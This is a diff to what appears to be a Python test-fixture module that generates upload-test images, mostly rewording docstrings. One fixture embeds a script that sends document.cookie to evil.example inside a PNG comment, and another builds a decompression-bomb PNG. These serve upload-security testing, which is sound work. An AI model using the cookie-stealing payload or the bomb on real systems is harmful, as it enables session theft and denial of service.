@@ -1,4 +1,4 @@
-"""Files as somebody might upload them."""
+"""Image files for uploads: valid, corrupt and malicious ones."""
 
 import struct
 import zlib
@@ -10,7 +10,7 @@ from PIL import Image
 
 
 def picture(kind: str = "JPEG", size: tuple[int, int] = (600, 400), mode: str = "RGB", **options: Any) -> bytes:
-    """A picture: red on the left, blue on the right."""
+    """An image: red on the left, blue on the right."""
     image = Image.new(mode, size, "blue" if mode in ("RGB", "RGBA", "P") else 255)
     if mode in ("RGB", "RGBA"):
         image.paste("red", (0, 0, size[0] // 2, size[1]))
@@ -20,14 +20,14 @@ def picture(kind: str = "JPEG", size: tuple[int, int] = (600, 400), mode: str = 
 
 
 def opened(content: bytes) -> Image.Image:
-    """The picture, decoded."""
+    """Decode an image."""
     image = Image.open(BytesIO(content))
     image.load()
     return image
 
 
 def located(orientation: int = 6) -> bytes:
-    """A JPEG of a camera that was held on its side, with the place where it was taken."""
+    """A JPEG with EXIF data: orientation, camera and GPS position."""
     exif = Image.Exif()
     exif[0x0112] = orientation
     exif[0x010F] = "A camera"
@@ -36,7 +36,7 @@ def located(orientation: int = 6) -> bytes:
 
 
 def huge_png(side: int = 50_000) -> bytes:
-    """A PNG of a few bytes that says it has so many pixels a side."""
+    """A small PNG file whose header declares `side` pixels per side (decompression bomb)."""
     header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
     line = zlib.compress(b"\0" * 1_000_000)
     return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", line) + _chunk(b"IEND", b"")
@@ -47,14 +47,14 @@ def _chunk(name: bytes, data: bytes) -> bytes:
 
 
 def scripted_png() -> bytes:
-    """A PNG that is a page as well: a script in a comment of it."""
+    """A PNG with a script in a comment (polyglot file)."""
     whole = picture("PNG")
     comment = _chunk(b"tEXt", b"Comment\0<script>fetch('//evil.example?' + document.cookie)</script>")
     return whole[:33] + comment + whole[33:]
 
 
 def frames(kind: str, count: int = 3) -> bytes:
-    """An animation, or of MPO the pictures of several lenses."""
+    """An image with several frames: an animation, or an MPO."""
     first, *others = [_noise((40, 30), seed).convert("RGB") for seed in range(count)]
     out = BytesIO()
     first.save(out, kind, save_all=True, append_images=others)
@@ -62,7 +62,7 @@ def frames(kind: str, count: int = 3) -> bytes:
 
 
 def noise(kind: str, mode: str = "RGB", **options: Any) -> bytes:
-    """A small picture of noise: each of its bytes matters."""
+    """A small image of noise, which hardly compresses."""
     out = BytesIO()
     _noise((60, 40), 0).convert(mode).save(out, kind, **options)
     return out.getvalue()
@@ -80,28 +80,28 @@ def turned(orientation: int = 6) -> bytes:
 
 
 def sized_gif(width: int, height: int) -> bytes:
-    """A GIF that says it has so many pixels."""
+    """A GIF whose header declares this size."""
     return b"GIF89a" + struct.pack("<HH", width, height) + picture("GIF", size=(8, 8))[10:]
 
 
 def half_animated_gif() -> bytes:
-    """An animation that is cut off in the head of its second frame."""
+    """An animation that is truncated in the header of its second frame."""
     whole = frames("GIF")
     return whole[: whole.index(b"\x21\xf9\x04", whole.index(b"\x21\xf9\x04") + 3) + 3]
 
 
 def break_bytes(content: bytes, random: Random) -> bytes:
-    """The file cut off, with bytes of another value, or with some more between them."""
+    """Corrupt a file: truncate it, change bytes, or insert some."""
     broken = bytearray(content)
-    way = random.random()
-    if way < 0.4:
+    choice = random.random()
+    if choice < 0.4:
         del broken[random.randrange(len(broken)) :]
-    if way > 0.3 and broken:
+    if choice > 0.3 and broken:
         for _ in range(random.choice([1, 1, 2, 5, 20])):
             broken[random.randrange(random.choice([min(64, len(broken)), len(broken)]))] = random.choice(
                 [0, 255, random.randrange(256)]
             )
-    if way > 0.9:
-        place = random.randrange(len(broken))
-        broken[place:place] = random.randbytes(random.randrange(1, 50))
+    if choice > 0.9:
+        position = random.randrange(len(broken))
+        broken[position:position] = random.randbytes(random.randrange(1, 50))
     return bytes(broken)
